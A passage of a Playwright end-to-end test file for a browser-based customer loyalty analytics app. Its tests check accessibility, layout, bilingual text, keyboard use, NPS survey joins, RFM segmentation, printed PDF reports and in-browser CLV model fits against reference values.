  const shown = (el) => { const r = rect(el); const s = getComputedStyle(el); return r.width > 1 && r.height > 1 && s.visibility !== 'hidden' && s.display !== 'none'; };
  const name = (el) => el.dataset.testid ? `[${el.dataset.testid}]` : `${el.tagName.toLowerCase()}${el.className && typeof el.className === 'string' ? '.' + el.className.trim().split(/\s+/).join('.') : ''}`;
  const overlap = (a, b) => Math.min(a.right, b.right) - Math.max(a.left, b.left) > 1 && Math.min(a.bottom, b.bottom) - Math.max(a.top, b.top) > 1;
  const cards = [...document.querySelectorAll('section.card')].filter(shown);
  for (let i = 0; i < cards.length; i++) for (let j = i + 1; j < cards.length; j++) {
    if (cards[i].contains(cards[j]) || cards[j].contains(cards[i])) continue;
    if (overlap(rect(cards[i]), rect(cards[j]))) out.push(`cards overlap: ${name(cards[i])} / ${name(cards[j])}`);
  }
  for (const card of cards) {
    const c = rect(card);
    for (const el of card.querySelectorAll('*')) {
      if (!shown(el) || el.closest('.visually-hidden')) continue;
      const scroller = el.parentElement?.closest('.table-wrap, .chart-scroll');
      if (scroller && card.contains(scroller)) continue;
      const r = rect(el);
      if (r.left < c.left - 1 || r.right > c.right + 1) out.push(`overflows its card by ${Math.round(Math.max(c.left - r.left, r.right - c.right))}px: ${name(el)} in ${name(card)}`);
    }
    // Side by side children of a two-column row do not overlap.
    for (const row of card.querySelectorAll('.two-col, .stats, .controls')) {
      const kids = [...row.children].filter(shown);
      for (let i = 0; i < kids.length; i++) for (let j = i + 1; j < kids.length; j++) if (overlap(rect(kids[i]), rect(kids[j]))) out.push(`overlap in ${name(row)}: ${name(kids[i])} / ${name(kids[j])}`);
    }
    // A chart never runs into the controls above or beside it.
    for (const chart of card.querySelectorAll('svg.chart')) for (const form of card.querySelectorAll('.controls, form, .pyramid-controls'))
      if (shown(chart) && shown(form) && overlap(rect(chart), rect(form))) out.push(`chart meets controls: ${name(chart)} / ${name(form)}`);
  }
  return [...new Set(out)];
};

test('axe-core finds no WCAG 2.1 A/AA violation, and nothing overlaps or overflows its card, on any page, in both languages, at 1440 and 360 px', async () => {
  // axe-core (npm) run inside the page, as a user's assistive technology would meet it: the sample
  // data loaded, every tab, a customer list open, the CLV models fitted.
  const axe = await readFile(join(here, 'node_modules', 'axe-core', 'axe.min.js'), 'utf8');
  const tags = ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa'];
  const found = [];
  for (const locale of ['en-US', 'zh-CN']) {
    for (const width of [1440, 360]) {
      const { context, page, errors } = await openApp(locale, { viewport: { width, height: 900 } });
      await page.getByTestId('sample').click();
      await page.locator('[data-testid="tab-overview"].active').waitFor({ timeout: TIMEOUT });
      await page.getByTestId('ov-customers').waitFor({ timeout: TIMEOUT });
      for (const tab of ['overview', 'data', 'segments', 'lifecycle', 'pyramid', 'clv', 'actions', 'nps']) {
        await page.getByTestId(`tab-${tab}`).click();
        await page.locator(`[data-testid="tab-${tab}"].active`).waitFor({ timeout: TIMEOUT });
        if (tab === 'segments') {
          await page.getByTestId('segment-bar-0').click();
          await page.getByTestId('customer-list').waitFor({ timeout: TIMEOUT });
        }
        // The CLV page fits the models on its own.
        if (tab === 'clv') await page.getByTestId('clv-models').waitFor({ timeout: 120_000 });
        if (tab === 'actions') await page.getByTestId('winback').waitFor({ timeout: TIMEOUT });
        await page.evaluate(axe);
        const result = await page.evaluate((values) => window.axe.run(document, { runOnly: { type: 'tag', values } }), tags);
        for (const v of result.violations) {
          found.push(`${locale} ${width}px ${tab}: ${v.id} × ${v.nodes.length} (${v.nodes[0].target.join(' ')})`);
        }
        for (const problem of await page.evaluate(layoutProblems)) found.push(`${locale} ${width}px ${tab}: ${problem}`);
      }
      assert.deepEqual(errors, []);
      await context.close();
    }
  }
  assert.deepEqual(found, []);
});

/** Presses Tab until the element with `testid` has the focus (at most `limit` times), as a keyboard
 *  user would reach it; fails naming where the focus went instead. */
async function tabTo(page, testid, limit = 400) {
  for (let i = 0; i < limit; i++) {
    if (await page.evaluate((id) => document.activeElement?.dataset?.testid === id, testid)) return;
    await page.keyboard.press('Tab');
  }
  const at = await page.evaluate(() => document.activeElement?.outerHTML.slice(0, 120));
  assert.fail(`Tab never reached ${testid} (focus on ${at})`);
}

test('one language at a time: no English sentence on any Chinese page (texts, rules, notes, the playbook), data aside', async () => {
  const { context, page, errors } = await openApp('zh-CN');
  await page.getByTestId('sample').click();
  await expectText(page, 'ov-customers', '20,000');
  const found = [];
  for (const tab of ['overview', 'data', 'segments', 'lifecycle', 'pyramid', 'clv', 'actions', 'nps']) {
    await page.getByTestId(`tab-${tab}`).click();
    await page.locator(`[data-testid="tab-${tab}"].active`).waitFor({ timeout: TIMEOUT });
    if (tab === 'clv') await page.getByTestId('clv-models').waitFor({ timeout: 120_000 });
    if (tab === 'actions') await page.getByTestId('winback').waitFor({ timeout: TIMEOUT });
    const english = await page.evaluate(() => {
      const out = [];
      const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
      while (walker.nextNode()) {
        const el = walker.currentNode.parentElement;
        // The file's own values (the preview, a column's sample values, the customers' comments and
        // their frequent terms) are data.
        if (!el || !el.checkVisibility() || el.closest('.preview, .samples, .terms, .comments-list, [data-testid="comments-table"], [data-testid="follow-up-table"]')) continue;
        for (const m of walker.currentNode.textContent.matchAll(/[A-Za-z][A-Za-z'’-]+(?:[ ,;:]+[A-Za-z][A-Za-z'’-]+){2,}/g)) out.push(`${m[0]} (${el.closest('[data-testid]')?.dataset.testid})`);
      }
      // Editable cells too (the playbook).
      for (const input of document.querySelectorAll('input[type=text], input:not([type])')) {
        const m = input.value.match(/[A-Za-z][A-Za-z'’-]+(?:[ ,;:]+[A-Za-z][A-Za-z'’-]+){1,}/);
        if (m && input.checkVisibility()) out.push(`${input.dataset.testid ?? 'input'}: ${m[0]}`);
      }
      return out;
    });
    for (const e of english) found.push(`${tab}: ${e}`);
  }
  assert.deepEqual(found, []);
  assert.deepEqual(errors, []);
  await context.close();
});

test('first-run tour on the sample data: each step opens its page; closed it returns with the next sample, dismissed for good it does not', async () => {
  const { context, page, errors } = await openApp();
  // The next visit: the page opened again (localStorage kept), the sample chosen.
  const sampleAgain = async () => {
    await page.reload();
    await page.locator('[data-worker="ready"]').waitFor({ state: 'attached', timeout: TIMEOUT });
    await page.getByTestId('sample').click();
  };
  await page.getByTestId('sample').click();
  await expectText(page, 'ov-customers', '20,000');
  await expectText(page, 'tour-step', 'Step 1 of 8');
  const pages = ['overview', 'data', 'segments', 'lifecycle', 'pyramid', 'clv', 'actions', 'overview'];
  for (let k = 1; k < pages.length; k++) {
    await page.getByTestId('tour-next').click();
    await expectText(page, 'tour-step', `Step ${k + 1} of 8`);
    await page.locator(`[data-testid="tab-${pages[k]}"].active`).waitFor({ timeout: TIMEOUT });
  }
  await page.getByTestId('tour-back').click();
  await page.locator('[data-testid="tab-actions"].active').waitFor({ timeout: TIMEOUT });
  await page.getByTestId('tour-next').click();
  await page.getByTestId('tour-done').click();
  assert.equal(await page.getByTestId('tour').count(), 0);
  // Closed, not dismissed: the next visit's sample shows it again.
  await sampleAgain();
  await page.getByTestId('tour').waitFor({ timeout: TIMEOUT });
  // Escape closes it too; "Don't show again" is remembered across visits.
  await page.getByTestId('tour-next').focus();
  await page.keyboard.press('Escape');
  assert.equal(await page.getByTestId('tour').count(), 0);
  await sampleAgain();
  await page.getByTestId('tour-never').click();
  assert.equal(await page.getByTestId('tour').count(), 0);
  await sampleAgain();
  await expectText(page, 'ov-customers', '20,000');
  await page.getByTestId('tab-segments').click();
  await page.getByTestId('segment-bar-0').waitFor({ timeout: TIMEOUT });
  assert.equal(await page.getByTestId('tour').count(), 0);
  assert.deepEqual(await page.evaluate(() => ({ ...localStorage })), { 'loyalty-lens.tour': 'dismissed' });
  assert.deepEqual(errors, []);
  await context.close();
});

test("the whole flow with the keyboard alone: sample data, every tab, a segment's customers, their story, the export", async () => {
  const { context, page, errors } = await openApp();
  await tabTo(page, 'sample');
  await page.keyboard.press('Enter');
  await page.locator('[data-testid="tab-overview"].active').waitFor({ timeout: TIMEOUT });
  await expectText(page, 'ov-customers', '20,000');
  for (const tab of ['data', 'segments', 'lifecycle', 'pyramid', 'clv', 'actions', 'nps', 'overview']) {
    await tabTo(page, `tab-${tab}`);
    await page.keyboard.press('Enter');
    await page.locator(`[data-testid="tab-${tab}"].active`).waitFor({ timeout: TIMEOUT });
  }
  // A segment's customers from its bar, on the Segments page.
  await tabTo(page, 'tab-segments');
  await page.keyboard.press('Enter');
  await tabTo(page, 'segment-bar-0');
  await page.keyboard.press('Enter');
  await page.getByTestId('customer-list').waitFor({ timeout: TIMEOUT });
  const total = await page.getByTestId('list-total').textContent();
  assert.ok(Number(total.replace(/,/g, '')) > 0, total);
  // The first customer's story, and back.
  await tabTo(page, 'open-profile');
  await page.keyboard.press('Enter');
  await page.getByTestId('profile-body').waitFor({ timeout: TIMEOUT });
  await page.keyboard.press('Escape');
  await page.getByTestId('profile').waitFor({ state: 'detached', timeout: TIMEOUT });
  // The list exported.
  await tabTo(page, 'export-customers');
  const [download] = await Promise.all([page.waitForEvent('download'), page.keyboard.press('Enter')]);
  const text = (await readFile(await download.path(), 'utf8')).replace(/^\ufeff/, '');
  assert.equal(text.trim().split(/\r?\n/).length - 1, Number(total.replace(/,/g, '')));
  // A pyramid tier and an R × F cell open their customers with Enter too.
  await tabTo(page, 'cell-5-5');
  await page.keyboard.press('Enter');
  await page.waitForFunction(() => document.querySelector('[data-testid="customer-list"] h2')?.textContent.includes('R5-F5'), null, { timeout: TIMEOUT });
  assert.deepEqual(errors, []);
  await context.close();
});

test("each page opens with its question and the action its numbers suggest, in the page's language", async () => {
  for (const locale of ['en-US', 'zh-CN']) {
    const { context, page } = await openApp(locale);
    await page.getByTestId('sample').click();
    await page.getByTestId('ov-customers').waitFor({ timeout: TIMEOUT });
    const guide = async (name) => (await page.getByTestId(`guide-${name}`).textContent()).trim();
    // A bar's value reads `3,115 · 20.3%`: its first number.
    const number = (text) => parseInt(text.replace(/,/g, ''), 10);
    // Overview: the repurchase rate of the KPI card.
    assert.ok((await guide('overview')).includes(await page.getByTestId('ov-repurchase').textContent()));
    // Segments: the Champions' bar.
    await page.getByTestId('tab-segments').click();
    const champions = page.getByTestId('segment-bars').first().locator('g.bar').first();
    const n = number(await champions.locator('text.value').textContent());
    assert.ok((await guide('segments')).includes(n.toLocaleString('en-US')), await guide('segments'));
    // Lifecycle: the decline stage's bar (the fourth).
    await page.getByTestId('tab-lifecycle').click();
    const decline = number((await page.getByTestId('stages').locator('text.value').allTextContents())[3]);
    assert.ok((await guide('lifecycle')).includes(decline.toLocaleString('en-US')), await guide('lifecycle'));
    // Pyramid: the top tier's customers and multiple.
    await page.getByTestId('tab-pyramid').click();
    const top = await page.getByTestId('pyramid-table').locator('tbody tr').first().locator('td').allTextContents();
    assert.ok((await guide('pyramid')).includes(top[1]) && (await guide('pyramid')).includes(top[5].replace('×', '')), await guide('pyramid'));
    // NPS, Data, CLV and Actions open with theirs; every guide in the page's language.
    for (const name of ['nps', 'data', 'clv', 'actions']) {
      await page.getByTestId(`tab-${name}`).click();
      await page.getByTestId(`guide-${name}`).waitFor({ timeout: TIMEOUT });
      const text = await guide(name);
      assert.equal(/[\u4e00-\u9fff]/.test(text), locale === 'zh-CN', text);
    }
    await context.close();
  }
});

test('sample data is generated in the browser', async () => {
  const { context, page, requests } = await openApp();
  const before = requests.length;
  await page.getByTestId('sample').click();
  await expectText(page, 'customers', '20,000');
  await expectText(page, 'rows-rejected', '0');
  // Customers who answered more than once count once with "latest only".
  await page.getByTestId('tab-nps').click();
  const all = Number((await page.getByTestId('nps-responses').textContent()).replace(/,/g, ''));
  await page.getByTestId('nps-latest').check();
  await page.waitForFunction((n) => Number(document.querySelector('[data-testid="nps-responses"]').textContent.replace(/,/g, '')) < n, all, { timeout: TIMEOUT });
  assert.equal(await page.getByTestId('nps-latest').isChecked(), true);
  assert.deepEqual(requests.slice(before), []);
  await context.close();
});

test('on a phone-sized screen every tab shows whole, on one line, and no page scrolls sideways', async () => {
  const { context, page } = await openApp('zh-CN', { viewport: { width: 360, height: 740 } });
  await page.getByTestId('sample').click();
  await expectText(page, 'customers', '20,000');
  const tabs = await page.locator('.tabs button').evaluateAll((buttons) =>
    buttons.map((b) => {
      const r = b.getBoundingClientRect();
      return { id: b.dataset.testid, left: r.left, right: r.right, height: r.height, lineHeight: parseFloat(getComputedStyle(b).lineHeight) || 20 };
    }),
  );
  assert.ok(tabs.length >= 7, `tabs: ${tabs.length}`);
  for (const t of tabs) {
    assert.ok(t.left >= 0 && t.right <= 360, `${t.id} is cut off: ${t.left}–${t.right}`);
    // One line of text plus the button's padding and underline.
    assert.ok(t.height < 2 * t.lineHeight + 4, `${t.id} wraps: ${t.height}px high`);
  }
  for (const t of tabs) {
    await page.getByTestId(t.id).click();
    await page.locator(`[data-testid="${t.id}"].active`).waitFor({ timeout: TIMEOUT });
    const [scroll, client] = await page.evaluate(() => [document.documentElement.scrollWidth, document.documentElement.clientWidth]);
    assert.ok(scroll <= client, `${t.id}: the page is ${scroll}px wide on a ${client}px screen`);
  }
  await context.close();
});

test('a survey file of its own joins the transactions: NPS per pyramid tier, comments, tier list and chart export, print', async () => {
  const { context, page, requests, errors } = await openApp();
  await upload(page, 'cdnow/CDNOW_sample.txt');
  // A new file opens on the overview: KPI cards, pyramid and segment bars.
  await expectText(page, 'ov-customers', '2,357');
  await page.getByTestId('pyramid').waitFor();
  await page.getByTestId('segment-bars').waitFor();
  const before = requests.length;
  // The survey is GBK, with anonymous answers and three bad scores.
  await page.getByTestId('survey-input').setInputFiles(fixture('survey_cdnow_gbk.csv'));
  await expectText(page, 'nps-responses', '625');
  await expectText(page, 'survey-status', 'survey_cdnow_gbk.csv: 625 answers, 600 joined to customers, 25 anonymous');
  const tiers = await page.getByTestId('nps-by-pyramid').locator('tbody tr').evaluateAll((trs) =>
    trs.map((tr) => [tr.querySelectorAll('td')[0].textContent, Number(tr.querySelectorAll('td')[1].textContent)]));
  // The default tiers' names in the page's language (English here).
  assert.deepEqual(tiers.map((t) => t[0]), ['Super fans', 'Active', 'Base']);
  assert.equal(tiers.reduce((a, t) => a + t[1], 0), 600);
  // Comments: frequent terms per category; clicking a term filters the list to it.
  assert.match(await page.getByTestId('terms-2').textContent(), /客服回复慢/);
  const listed = await page.getByTestId('comments-count').textContent();
  await page.getByTestId('terms-2').getByText('客服回复慢').click();
  const shown = await page.getByTestId('comments-table').locator('tbody tr').evaluateAll((trs) => trs.map((tr) => tr.textContent));
  assert.ok(shown.length > 0 && shown.every((t) => t.includes('客服回复慢')), shown.join('|'));
  // New rules segment again (the comments are not sent again with it: the page puts back the ones
  // it has); the NPS page still lists them all, then and with the default rules back.
  assert.match(listed, /^[1-9][\d,]* \/ /);
  for (const bins of ['3', '5']) {
    await page.getByTestId('tab-segments').click();
    await page.getByTestId('bins').selectOption(bins);
    await page.getByTestId('recalculate').click();
    await page.waitForFunction((b) => new RegExp(`floor\\(${b} · w`).test(document.querySelector('[data-testid="rule"]').textContent), bins, { timeout: TIMEOUT });
    await page.getByTestId('tab-nps').click();
    await page.getByTestId('comments-filter').fill('');
    assert.equal(await page.getByTestId('comments-count').textContent(), listed);
    await page.getByTestId('terms-2').getByText('客服回复慢').click();
    assert.deepEqual(await page.getByTestId('comments-table').locator('tbody tr').evaluateAll((trs) => trs.map((tr) => tr.textContent)), shown);
  }
  // The survey's own reading: two unreadable scores (11, 7.5) left out of their rows and one N/A
  // counted as no answer, said in notices rather than as rejected rows.
  await page.getByTestId('tab-data').click();
  await page.getByTestId('data-survey').click();
  const surveyNotices = await page.getByTestId('warnings').textContent();
  assert.match(surveyNotices, /2 cell\(s\) of score could not be read/);
  assert.match(surveyNotices, /1 row\(s\) have no score/);
  // The pyramid now carries NPS per tier; super fans are the most enthusiastic.
  await page.getByTestId('tab-overview').click();
  assert.match(await page.getByTestId('ov-nps').textContent(), /^−?-?\d+\.\d ± \d+\.\d$/);
  assert.match(await page.getByTestId('pyramid-nps-0').textContent(), /^NPS 58\.6 \(/);
  // Export the pyramid as SVG (styles inlined, text kept) and PNG.
  const [svgFile] = await Promise.all([page.waitForEvent('download'), page.getByTestId('ov-export-pyramid-svg').click()]);
  assert.equal(svgFile.suggestedFilename(), 'loyalty-pyramid.svg');
  const svg = await readFile(await svgFile.path(), 'utf8');
  assert.match(svg, /^<\?xml[^>]*>\s*<svg[^>]*xmlns="http:\/\/www.w3.org\/2000\/svg"/);
  assert.match(svg, />Super fans</);
  assert.match(svg, /<text[^>]* font-family="[^"]+"/, 'the page styles are inlined as attributes');
  const [pngFile] = await Promise.all([page.waitForEvent('download'), page.getByTestId('ov-export-pyramid-png').click()]);
  assert.equal(pngFile.suggestedFilename(), 'loyalty-pyramid.png');
  const png = await readFile(await pngFile.path());
  assert.deepEqual([...png.subarray(0, 8)], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  assert.ok(png.length > 5000, `a real picture, not an empty canvas (${png.length} bytes)`);
  // A click on a tier opens the pyramid page with that tier's customers, which export.
  await page.getByTestId('pyramid-tier-0').click();
  await expectText(page, 'list-total', '118');
  const [list] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-customers').click()]);
  const lines = (await readFile(await list.path(), 'utf8')).replace(/^\uFEFF/, '').trim().split(/\r?\n/);
  assert.equal(lines.length, 119);
  // The overview prints as a report: controls hidden, the title shown.
  await page.getByTestId('tab-overview').click();
  await page.emulateMedia({ media: 'print' });
  assert.equal(await page.getByTestId('tab-data').isVisible(), false);
  assert.equal(await page.getByTestId('print').isVisible(), false);
  assert.equal(await page.locator('.report-title').isVisible(), true);
  assert.equal(await page.getByTestId('rules-used').isVisible(), true);
  await page.emulateMedia({ media: 'screen' });
  // Removing the survey takes its NPS away again (the CDNOW file has no scores).
  await page.getByTestId('tab-nps').click();
  await page.getByTestId('survey-remove').click();
  await page.waitForFunction(() => !document.querySelector('[data-testid="pyramid-nps-0"]')?.textContent.startsWith('NPS 5'), null, { timeout: TIMEOUT });
  // Nothing left the browser: no request but the app's own blob: URLs after the uploads.
  assert.deepEqual(requests.slice(before).filter((u) => !u.startsWith('blob:')), []);
  assert.deepEqual(errors, []);
  await context.close();
});

test('a survey file alone gives the NPS page, with anonymous answers counted', async () => {
  const { context, page } = await openApp('zh-CN');
  await upload(page, 'survey_cdnow_gbk.csv');
  await expectText(page, 'nps-responses', '625');
  assert.equal(await page.getByTestId('tab-segments').count(), 0, 'no transactions, no segmentation pages');
  // Any two periods compared: the first and the last month, tested by hand from the file (the NPS
  // difference's z-test, each period's variance (p + d − (p − d)²) / n).
  const text = new TextDecoder('gbk').decode(await readFile(fixture('survey_cdnow_gbk.csv')));
  const months = new Map();
  for (const line of text.trim().split(/\r?\n/).slice(1)) {
    const [, date, score] = line.split(',');
    const c = months.get(date.slice(0, 7)) ?? { p: 0, d: 0, n: 0 };
    c.n += 1;
    c.p += Number(score) >= 9 ? 1 : 0;
    c.d += Number(score) <= 6 ? 1 : 0;
    months.set(date.slice(0, 7), c);
  }
  const labels = [...months.keys()].sort();
  const [first, last] = [months.get(labels[0]), months.get(labels[labels.length - 1])];
  const score = (c) => (100 * (c.p - c.d)) / c.n;
  const variance = (c) => (c.p / c.n + c.d / c.n - ((c.p - c.d) / c.n) ** 2) / c.n;
  const z = (score(last) - score(first)) / 100 / Math.sqrt(variance(first) + variance(last));
  // Φ by Abramowitz and Stegun 7.1.26 (error below 1.5e-7).
  const erf = (x) => { const t = 1 / (1 + 0.3275911 * x); return 1 - (((((1.061405429 * t - 1.453152027) * t) + 1.421413741) * t - 0.284496736) * t + 0.254829592) * t * Math.exp(-x * x); };
  const p = 1 - erf(Math.abs(z) / Math.SQRT2);
  await page.getByTestId('nps-before').selectOption({ label: labels[0] });
  await page.getByTestId('nps-after').selectOption({ label: labels[labels.length - 1] });
  const diff = (score(last) - score(first)).toFixed(1);
  await page.waitForFunction((d) => document.querySelector('[data-testid="nps-compare-verdict"]')?.textContent.includes(`: ${d} (p `), (diff.startsWith('-') ? '' : '+') + diff);
  const shown = await page.getByTestId('nps-compare-verdict').textContent();
  const pShown = Number(shown.match(/\(p (< )?([\d.]+)\)/)[2]);
  assert.ok(Math.abs(pShown - p) < 0.002, `${shown} vs p ${p}`);
  await page.getByTestId('tab-overview').click();
  await page.getByTestId('ov-nps').waitFor();
  await page.getByTestId('nps-trend').waitFor();
  await context.close();
});

test('a dates-only visit log: every analysis the dates allow, the money parts marked as needing an amount; the CLV page fits the purchase models on the dates as lifetimes does', async () => {
  const { context, page, errors } = await openApp();
  await upload(page, 'visits/grocery_visits.csv');
  await page.locator('[data-testid="tab-overview"].active').waitFor({ timeout: TIMEOUT });
  // What pandas found on the same log (tests/fixtures/visits/fit.py → expected.json).
  const want = JSON.parse(await readFile(fixture('visits/expected.json'), 'utf8'));
  await expectText(page, 'ov-customers', '1,525');
  await expectText(page, 'ov-revenue', 'needs an amount column');
  await expectText(page, 'ov-top20', 'needs an amount column');
  await expectText(page, 'ov-repurchase', `${(want.repurchase_rate * 100).toFixed(1)}%`);
  assert.match(await page.getByTestId('no-amounts').textContent(), /no amount column/);
  // The R-F segments with the counts pandas found; the 8 classes and ABC say what they need.
  await page.getByTestId('tab-segments').click();
  const bars = page.getByTestId('segment-bars').first().locator('g.bar');
  await bars.first().waitFor({ timeout: TIMEOUT });
  const shown = {};
  for (const bar of await bars.all()) shown[await bar.locator('text.label').textContent()] = Number((await bar.locator('text.value').textContent()).replace(/,/g, ''));
  for (const [name, n] of Object.entries(want.rf_segments)) assert.equal(shown[name] ?? 0, n, name);
  assert.match(await page.getByTestId('cn-needs-amount').textContent(), /needs an amount column/);
  assert.match(await page.getByTestId('abc-needs-amount').textContent(), /needs an amount column/);
  // A segment's customers: no spend, M, class or ABC columns, and a line saying why.
  await bars.first().click();
  await page.getByTestId('customer-list').waitFor({ timeout: TIMEOUT });
  const heads = await page.getByTestId('customer-list').locator('thead th').allTextContents();
  assert.ok(!heads.includes('M') && !heads.some((h) => /Monetary|ABC/i.test(h)), heads.join('|'));
  await page.getByTestId('list-money-left-out').waitFor();
  // Stages by orders, as pandas counted them; tiers by spend need an amount.
  await page.getByTestId('tab-lifecycle').click();
  await page.getByTestId('tiers-need-amount').waitFor({ timeout: TIMEOUT });
  const stages = await page.getByTestId('stages').locator('text.value').allTextContents();
  assert.deepEqual(stages.map((v) => Number(v.replace(/,/g, ''))), ['考察期', '形成期', '稳定期', '退化期', '终止'].map((s) => want.stages[s] ?? 0));
  // The cohorts: each month's customers (the row label) as pandas found them; no revenue view.
  await page.getByTestId('cohort-matrix').waitFor();
  assert.equal(await page.getByTestId('cohort-revenue').count(), 0);
  const rows = (await page.getByTestId('cohort-matrix').textContent());
  for (const [label, c] of Object.entries(want.cohorts)) assert.ok(rows.includes(`${label} (${c.customers})`), `${label} (${c.customers})`);
  // The pyramid by R and F: every customer in a tier, no revenue share.
  await page.getByTestId('tab-pyramid').click();
  const tiers = await page.getByTestId('pyramid-table').locator('tbody tr').all();
  let total = 0;
  for (const tier of tiers) {
    const cells = await tier.locator('td').allTextContents();
    total += Number(cells[1].replace(/,/g, ''));
    assert.equal(cells[2], 'needs an amount column');
  }
  assert.equal(total, 1525);
  // The playbook's actions without money; win-back priorities say what they need.
  await page.getByTestId('tab-actions').click();
  await page.getByTestId('wb-needs-amount').waitFor({ timeout: TIMEOUT });
  assert.deepEqual(errors, []);
  await page.getByTestId('tab-clv').click();
  // Fitted on opening with the defaults; then again with the split lifetimes was given.
  await page.getByTestId('clv-models').waitFor({ timeout: 120_000 });
  await page.getByTestId('clv-calibration').fill('2007-12-30');
  await page.getByTestId('clv-holdout').fill('');
  await page.getByTestId('clv-unit').selectOption('day');
  await fitAgain(page);
  // lifetimes' BG/NBD on the same log (tests/fixtures/visits/fit.py → expected.json), within 0.5%.
  const models = await page.getByTestId('clv-models').textContent();
  for (const [name, key] of [['r', 'r'], ['α', 'alpha'], ['a', 'a'], ['b', 'b']]) {
    const got = Number(new RegExp(`BG/NBD.*?${name} = ([0-9.]+)`).exec(models)[1]);
    assert.ok(Math.abs(got - want[key]) <= 0.005 * want[key], `${name}: ${got} vs lifetimes' ${want[key]}`);
  }
  assert.doesNotMatch(models, /Gamma-Gamma/);
  assert.match(await page.getByTestId('clv-needs-amount').textContent(), /no amount column/);
  // Every customer has P(alive) and expected purchases; the mean value and CLV say they need amounts.
  const first = await page.getByTestId('clv-table').locator('tbody tr').first().locator('td').allTextContents();
  assert.equal(first[4], '—');
  assert.equal(first.at(-1), '—');
  assert.match(first[5], /^\d/);
  await context.close();
});

/** Fits the CLV models again with the settings on the page, after its automatic fit has finished. */
async function fitAgain(page) {
  await page.getByTestId('clv-timings').waitFor({ timeout: 120_000 });
  const runs = Number(await page.getByTestId('clv-timings').getAttribute('data-runs'));
  await page.getByTestId('clv-run').click();
  await page.waitForFunction(
    (runs) => Number(document.querySelector('[data-testid="clv-timings"]')?.dataset.runs) > runs,
    runs,
    { timeout: 120_000 },
  );
}

/** The PDF's page count and its outline's titles (Chromium writes literal or UTF-16BE hex strings). */
function pdfFacts(pdf) {
  const text = pdf.toString('latin1');
  const pages = (text.match(/\/Type\s*\/Page\b/g) || []).length;
  const titles = [...text.matchAll(/\/Title\s*(\((?:[^()\\]|\\.)*\)|<[0-9A-Fa-f]+>)/g)].map(([, t]) => {
    if (t.startsWith('(')) return t.slice(1, -1).replace(/\\(.)/g, '$1');
    const bytes = Buffer.from(t.slice(1, -1), 'hex');
    const utf16 = bytes.subarray(2);
    return Buffer.from(utf16.swap16()).toString('utf16le');
  });
  return { pages, titles };
}

test('Print report: an A4 PDF with a cover, the KPIs with their definitions, pyramid, segments, lifecycle, NPS and CLV', async () => {
  const { context, page, errors } = await openApp('zh-CN');
  await upload(page, 'cdnow/CDNOW_sample.txt');
  await expectText(page, 'ov-customers', '2,357');
  await page.getByTestId('survey-input').setInputFiles(fixture('survey_cdnow_gbk.csv'));
  await expectText(page, 'nps-responses', '625');
  await page.getByTestId('tab-overview').click();
  await page.getByTestId('ov-nps').waitFor({ timeout: TIMEOUT });
  // Each chart's numbers as a table, one toggle away: every customer in one segment, the chart back.
  await page.getByTestId('ov-export-segments-table').click();
  const view = page.getByTestId('ov-export-segments-table-view');
  const counts = await view.locator('tbody tr').evaluateAll((rows) => rows.map((r) => Number(r.cells[1].textContent.replace(/,/g, ''))));
  assert.equal(counts.reduce((a, b) => a + b, 0), 2357);
  assert.equal(await page.getByTestId('ov-export-segments-table').getAttribute('aria-pressed'), 'true');
  assert.equal(await page.getByTestId('segment-bar-0').isVisible(), false);
  await page.getByTestId('ov-export-segments-table').click();
  await page.getByTestId('segment-bar-0').waitFor({ timeout: TIMEOUT });
  assert.equal(await view.count(), 0);
  // The browser's print dialog is not there to be closed in a test: the page's print() is counted
  // instead, and Chromium's own printing makes the PDF.
  await page.evaluate(() => { window.print = () => { window.__printed = (window.__printed ?? 0) + 1; }; });
  assert.equal(await page.getByTestId('report').count(), 0, 'the report is rendered only to print');
  await page.getByTestId('print').click();
  // The CLV models were not fitted yet: the report fits them with the page's defaults first.
  await page.waitForFunction(() => window.__printed === 1, null, { timeout: 120_000 });
  const clv = await page.getByTestId('report-clv').textContent();
  // Fader, Hardie & Lee (2005) on the CDNOW sample: r 0.243, α 4.414, a 0.793, b 2.426.
  assert.match(clv, /r 0\.243 · α 4\.414 · a 0\.793 · b 2\.426/);
  const kpis = await page.getByTestId('report-kpis').locator('tbody tr').evaluateAll((rows) => rows.map((r) => [...r.cells].map((c) => c.textContent)));
  assert.ok(kpis.length >= 6, JSON.stringify(kpis));
  for (const [name, value, definition] of kpis) assert.ok(name && value && definition.length > 10, `${name}: ${value} — ${definition}`);
  assert.deepEqual(kpis[0].slice(0, 2), ['客户数', '2,357']);
  // pandas on the same file (tests/fixtures/cdnow/report_kpis.py): repeat customers 48.3%, the top
  // 20%'s share of revenue 67.5%, Gini 0.631.
  const value = (name) => kpis.find(([n]) => n === name)?.[1];
  assert.deepEqual([value('复购客户占比'), value('前 20% 客户贡献的收入'), value('基尼系数')], ['48.3%', '67.5%', '0.631']);
  // Every chart has the same numbers in a table beside it: nothing is read from colour alone.
  for (const id of ['pyramid', 'segments']) {
    const section = page.getByTestId(`report-${id}`);
    assert.equal(await section.locator('svg').count() > 0 && await section.locator('table').count(), 1, id);
  }
  const pdf = await page.pdf({ format: 'A4', outline: true, tagged: true, printBackground: true });
  if (process.env.REPORT_PDF) await writeFile(process.env.REPORT_PDF, pdf);
  const { pages, titles } = pdfFacts(pdf);
  // A cover and one page or two for each of the six sections.
  assert.ok(pages >= 7 && pages <= 14, `${pages} pages`);
  for (const want of ['客户洞察报告', '核心指标', '忠诚度金字塔', 'RFM 客户分层', '生命周期与 KPI', 'NPS', 'CLV']) {
    assert.ok(titles.includes(want), `the PDF's outline lacks ${want}: ${JSON.stringify(titles)}`);
  }
  // One language: no English section names in the Chinese report.
  assert.ok(!titles.some((t) => /Headline|pyramid|segments|Lifecycle/i.test(t)), JSON.stringify(titles));
  // Once printed, the report goes away again.
  await page.evaluate(() => window.dispatchEvent(new Event('afterprint')));
  await page.getByTestId('report').waitFor({ state: 'detached', timeout: TIMEOUT });
  assert.deepEqual(errors, []);
  await context.close();
});

test('CLV: BG/NBD, Pareto/NBD and Gamma-Gamma fitted in the browser on CDNOW, validated on the holdout, customers exported', async () => {
  const { context, page, requests, errors } = await openApp();
  await upload(page, 'cdnow/CDNOW_sample.txt');
  await expectText(page, 'ov-customers', '2,357');
  const before = requests.length;
  // The page fits the models on opening; a run can be cancelled between its steps. The fits take
